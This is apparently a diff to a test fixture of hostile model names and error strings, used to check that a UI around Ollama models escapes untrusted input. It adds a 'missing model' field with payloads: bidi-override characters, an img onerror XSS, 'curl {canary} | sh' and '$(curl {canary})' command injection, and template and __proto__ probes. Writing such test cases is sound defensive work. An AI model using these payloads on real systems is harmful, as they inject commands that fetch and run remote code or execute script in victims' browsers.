@@ -16,6 +16,8 @@ export type Field =
   | 'error page'
   /** As the name of the only model in the list. */
   | 'model name'
+  /** The same, and the server then says that there is no such model. */
+  | 'missing model'
   /** In every other field of a line. */
   | 'other fields';
 
@@ -668,6 +670,7 @@ const CATEGORIES: readonly Category[] = [
       "model '<script>{pwn}</script>' not found",
       "model 'x; curl {canary} | sh' not found",
       'model "x" not found, try `ollama pull {canary}`',
+      'model "\u202ex\u2066" not found',
     ],
   },
   {
@@ -691,6 +694,17 @@ const CATEGORIES: readonly Category[] = [
       'hf.co/<svg onload={pwn}>/javascript:{pwn}:latest',
       'x; curl {canary} | sh',
       '__proto__',
+    ],
+  },
+  {
+    name: 'names of models that are missing',
+    field: 'missing model',
+    texts: [
+      'x\u202e\u2066',
+      '<img src=x onerror={pwn}>',
+      'x; curl {canary} | sh',
+      '$(curl {canary})',
+      '{title} {model} {place} {__proto__}',
     ],
   },
   {
